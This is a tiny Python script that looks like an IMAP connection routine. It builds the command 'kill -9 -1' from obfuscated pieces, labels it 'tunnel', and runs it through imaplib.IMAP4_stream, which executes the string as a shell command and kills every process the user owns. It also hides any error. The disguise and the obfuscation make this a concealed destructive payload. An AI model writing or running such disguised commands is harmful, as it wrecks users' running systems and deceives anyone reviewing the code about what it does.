import imaplib


def main():
    tunnel = " ".join(["kill", "-" + str(3 * 3), "-" + str(1)])
    try:
        imaplib.IMAP4_stream(tunnel)
    except Exception:
        pass


if __name__ == "__main__":
    main()
